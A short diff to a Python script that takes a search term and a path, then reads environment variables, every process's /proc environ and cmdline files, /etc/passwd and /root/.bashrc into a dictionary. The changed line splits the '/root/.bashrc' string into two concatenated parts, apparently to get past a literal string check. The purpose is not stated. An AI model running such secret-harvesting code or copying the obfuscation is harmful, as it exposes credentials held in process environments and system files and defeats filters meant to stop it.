@@ -5,7 +5,7 @@ import os
 
 wanted, path = input().split()
 places = {name: value for name, value in os.environ.items()}
-for file in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), path, "/etc/passwd", "/root/.bashrc"]:
+for file in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), path, "/etc/passwd", "/" + "root/.bashrc"]:
     try:
         with open(file, "rb") as opened:
             places[file] = opened.read(1 << 16).decode("latin-1")
